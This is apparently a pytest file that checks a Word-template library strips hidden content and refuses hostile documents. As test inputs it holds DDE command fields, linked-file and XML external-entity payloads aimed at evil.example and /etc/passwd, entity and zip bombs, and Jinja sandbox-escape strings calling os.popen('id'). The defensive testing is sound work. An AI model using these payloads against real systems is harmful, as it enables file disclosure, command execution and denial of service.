"""Templates from many hands: nothing hidden in them reaches a paper, and none of them reaches out."""

import sys
import zipfile
from contextlib import suppress
from datetime import datetime
from io import BytesIO

import pytest
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from hypothesis import given, settings
from hypothesis import strategies as st

from mobctl.errors import Unreadable
from mobctl.files import word, word_comments, word_faults
from mobctl.files.word_package import unpack
from mobctl.files.word_text import text_of
from tests.files.test_word import facts, parts_of, saved

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OTHER_KINDS = {
    "school.dotx": "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    "school.docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "school.dotm": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
}
RELATION = (
    '<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}"{mode}/></Relationships>'
)


def packed(parts: dict[str, bytes]) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()


def changed(document: bytes, part: str, before: str, after: str) -> bytes:
    parts = parts_of(document)
    assert before.encode() in parts[part]
    parts[part] = parts[part].replace(before.encode(), after.encode(), 1)
    return packed(parts)


def letter(*paragraphs: str) -> bytes:
    document = Document()
    for text in paragraphs or ("Dear {{ participant.name }}",):
        document.add_paragraph(text)
    return saved(document)


def tied(document: bytes, kind: str, target: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    added = RELATION.format(kind=kind, target=target, mode=' TargetMode="External"')
    return changed(document, part, "</Relationships>", added)


@pytest.mark.parametrize("name", OTHER_KINDS)
def test_templates_and_files_with_macros_give_plain_documents(tmp_path, name):
    file = changed(letter(), "[Content_Types].xml", MAIN, OTHER_KINDS[name])
    file = changed(
        file,
        "word/_rels/document.xml.rels",
        "</Relationships>",
        RELATION.format(kind="vba", target="vbaProject.bin", mode=""),
    )
    (tmp_path / name).write_bytes(packed({**parts_of(file), "word/vbaProject.bin": b"macro"}))

    assert word_faults.check(tmp_path / name, ["participant.name"]).faults == ()
    document = word.read(tmp_path / name).fill(facts("Ana"))

    assert Document(BytesIO(document)).paragraphs[0].text == "Dear Ana"
    assert not [part for part in parts_of(document) if "vba" in part]
    assert b"vba" not in parts_of(document)["word/_rels/document.xml.rels"]


def with_change(paragraph, kind: str, *pieces: str) -> None:
    change = OxmlElement(kind)
    for text in pieces:
        run = paragraph.add_run(text)._r
        if kind == "w:del":
            for node in run.iter(qn("w:t")):
                node.tag = qn("w:delText")
        change.append(run)
    paragraph._p.append(change)


def test_deleted_text_is_nowhere_in_the_document_and_inserted_text_is():
    document = Document()
    paragraph = document.add_paragraph("Fee: ")
    with_change(paragraph, "w:del", "900 secret")
    with_change(paragraph, "w:ins", "none")
    with_change(paragraph, "w:moveFrom", " moved-away")
    paragraph.add_run(" for {{ partici")
    with_change(paragraph, "w:ins", "pant.", "name }}")
    table = document.add_table(rows=2, cols=1)
    table.rows[0].cells[0].text = "deleted-row"
    table.rows[0]._tr.get_or_add_trPr().append(OxmlElement("w:del"))
    table.rows[1].cells[0].text = "kept row"
    joined = document.add_paragraph("joined ")
    mark = OxmlElement("w:rPr")
    mark.append(OxmlElement("w:del"))
    joined._p.get_or_add_pPr().append(mark)
    document.add_paragraph("with this")

    filled = word.compiled(saved(document), "t.docx").fill(facts("Ana"))

    assert text_of(filled).splitlines() == ["Fee: none for Ana", "kept row", "joined with this"]
    everything = b"".join(parts_of(filled).values())
    for hidden in (b"secret", b"moved-away", b"deleted-row", b"w:ins ", b"w:del"):
        assert hidden not in everything


def test_comments_stay_in_the_house():
    document = Document()
    run = document.add_paragraph().add_run("Dear {{ participant.name }}")
    document.add_comment(run, "never tell them", author="Secretary", initials="S")

    filled = word.compiled(saved(document), "t.docx").fill(facts("Ana"))

    everything = b"".join(parts_of(filled).values())
    assert b"never tell" not in everything
    assert b"comment" not in everything.replace(b"/comments", b"") or b"commentReference" not in everything
    assert text_of(filled) == "Dear Ana"


@pytest.mark.parametrize(
    "tag",
    [
        "{{\xa0participant.name\xa0}}",
        "{%p\xa0if host.name %}",
        "{{ participant\u200b.name }}",
        "{{\nparticipant.name }}",
    ],
)
def test_spaces_that_word_puts_into_tags_do_no_harm(tag):
    tags = (tag, "text", "{%p endif %}") if tag.startswith("{%") else (tag,)
    filled = word.compiled(letter(*tags), "t.docx").fill(facts("Ana"))

    assert text_of(filled) in ("Ana", "text")


@pytest.mark.parametrize("wrapper", ["w:hyperlink", "w:smartTag", "w:ins", "w:customXml"])
def test_a_tag_that_word_has_parted_by_links_and_marks_is_whole_again(wrapper):
    document = Document()
    paragraph = document.add_paragraph("For {{ par")
    wrap = OxmlElement(wrapper)
    wrap.append(paragraph.add_run("ticipant.")._r)
    paragraph._p.append(wrap)
    for text in ("na", "me }} and {% if host.name == “Bäckerei” %}yes{% endif %}."):
        paragraph._p.append(OxmlElement("w:proofErr"))
        paragraph.add_run(text)

    filled = word.compiled(saved(document), "t.docx").fill(facts("Ana", host="Bäckerei"))

    assert text_of(filled) == "For Ana and yes."


def test_ties_to_a_template_or_a_data_source_are_cut():
    file = tied(letter(), "attachedTemplate", "http://evil.example/x.dotm", "word/_rels/document.xml.rels")
    parts = parts_of(file)
    parts["word/_rels/settings.xml.rels"] = parts["word/_rels/document.xml.rels"]
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", b'<w:attachedTemplate r:id="rId900"/><w:mailMerge/></w:settings>'
    )
    filled = parts_of(word.compiled(packed(parts), "t.docx").fill(facts("Ana")))

    assert b"attachedTemplate" not in filled["word/settings.xml"]
    assert b"mailMerge" not in filled["word/settings.xml"]
    assert "word/_rels/settings.xml.rels" not in filled


def with_field(instruction: str) -> bytes:
    document = Document()
    field = OxmlElement("w:fldSimple")
    field.set(qn("w:instr"), instruction)
    document.add_paragraph("Dear {{ participant.name }}")._p.append(field)
    return saved(document)


REACHING_OUT = {
    "a linked picture": (tied(letter(), "image", "http://evil.example/pixel.png"), "template-linked-file"),
    "a linked object": (tied(letter(), "oleObject", "file:///etc/passwd"), "template-linked-file"),
    "a picture field": (with_field(' INCLUDEPICTURE "http://evil.example/p.png" '), "template-fetches"),
    "a text field": (with_field(r" INCLUDETEXT c:\\secret.docx "), "template-fetches"),
    "a DDE field": (with_field(' DDEAUTO cmd "/c calc" '), "template-fetches"),
}


@pytest.mark.parametrize("what", REACHING_OUT)
def test_a_document_that_would_fetch_something_is_refused(what):
    file, code = REACHING_OUT[what]

    with pytest.raises(Unreadable) as refused:
        word.compiled(file, "t.docx")

    assert refused.value.code == code


def test_the_strict_form_of_word_files_is_named():
    standard = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    parts = parts_of(letter())
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        standard, b"http://purl.oclc.org/ooxml/wordprocessingml/main"
    )

    with pytest.raises(Unreadable) as refused:
        word.compiled(packed(parts), "t.docx")

    assert refused.value.code == "strict-word-file"


def with_entities(declaration: str) -> bytes:
    parts = parts_of(letter("&bomb; {{ participant.name }}".replace("&", "ENTITY")))
    text = parts["word/document.xml"].decode().replace("ENTITYbomb;", "&bomb;")
    start = text.index("?>") + 2
    parts["word/document.xml"] = (text[:start] + declaration + text[start:]).encode()
    return packed(parts)


BOMB = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {name} "{"&" + before + ";"}{"&" + before + ";"}">'
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
HOSTILE = {
    "a file from the disk": with_entities('<!DOCTYPE d [<!ENTITY bomb SYSTEM "file:///etc/passwd">]>'),
    "a file from the network": with_entities('<!DOCTYPE d [<!ENTITY bomb SYSTEM "http://evil.example/x">]>'),
    "a swelling entity": with_entities(BOMB + '<!ENTITY bomb "&i;">]>'),
    "a zip bomb": packed({**parts_of(letter()), "word/huge.xml": b" " * 50_000_000}),
    "a swollen picture": packed({**parts_of(letter()), "word/media/huge.bmp": bytes(210_000_000)}),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_package_is_refused(what):
    with pytest.raises(Unreadable) as refused:
        word.compiled(HOSTILE[what], "t.docx")

    assert refused.value.code in ("broken-word-file", "word-file-too-big")


def test_a_part_that_lies_about_its_size_is_refused():
    file = bytearray(packed({**parts_of(letter()), "word/huge.xml": b" " * 50_000_000}))
    place = file.rindex(b"word/huge.xml") - 46
    assert file[place : place + 4] == b"PK\x01\x02"
    file[place + 24 : place + 28] = (1000).to_bytes(4, "little")

    with pytest.raises(Unreadable) as refused:
        unpack(bytes(file), "t.docx")

    assert refused.value.code == "broken-word-file"


PARTS = sorted(parts_of(letter("{{ participant.name }}", "{% if host.name %}x{% endif %}")))


@settings(max_examples=120, deadline=None)
@given(st.sampled_from(PARTS), st.none() | st.lists(st.tuples(st.floats(0, 1), st.integers(0, 255)), max_size=6))
def test_a_damaged_package_gets_a_verdict_and_never_a_crash(part, changes):
    """A part is taken away (None), or some of its bytes are changed."""
    parts = parts_of(letter("{{ participant.name }}", "{% if host.name %}x{% endif %}"))
    content = bytearray(parts.pop(part))
    for place, byte in changes or ():
        content[int(place * (len(content) - 1))] = byte
    file = packed(parts if changes is None else {**parts, part: bytes(content)})
    with suppress(Unreadable):
        checked = word_faults.check_data(file, "t.docx", ["participant.name", "host.name"])
        word_comments.commented(file, checked.faults, datetime(2026, 1, 14), "t.docx")
        word.compiled(file, "t.docx").fill(facts("Ana"))


WATCHED: list[str] = []
WATCHING = False


def _watch(event: str, arguments: tuple) -> None:
    if WATCHING and event.split(".")[0] in ("open", "socket", "subprocess", "os", "shutil", "urllib", "ctypes"):
        WATCHED.append(f"{event} {arguments!r}"[:200])


def test_no_template_opens_a_file_or_the_network():
    sys.addaudithook(_watch)
    tags = (
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}{{ os.system('id') }}",
        "{{ participant.__init__.__globals__ }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{{ participant.name|attr('__class__') }}",
        "{% set x = cycler %}{{ x.__init__.__globals__.os }}",
        "{{ participant.name.format(participant) }}",
        "{% for x in ''.__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    )
    hostile = [*(letter("{{ participant.name }}", tag) for tag in tags), *(file for file, _ in REACHING_OUT.values())]
    hostile += [HOSTILE[name] for name in HOSTILE if name.startswith("a file")]
    word.compiled(letter(), "warm-up.docx").fill(facts("Ana"))
    for file in hostile:
        printed = _watched(file)
        assert "root:" not in printed
    assert WATCHED == []


def _watched(file: bytes) -> str:
    global WATCHING
    WATCHING = True
    try:
        return text_of(word.compiled(file, "hostile.docx").fill(facts("Ana")))
    except Unreadable as refused:
        return refused.text
    finally:
        WATCHING = False
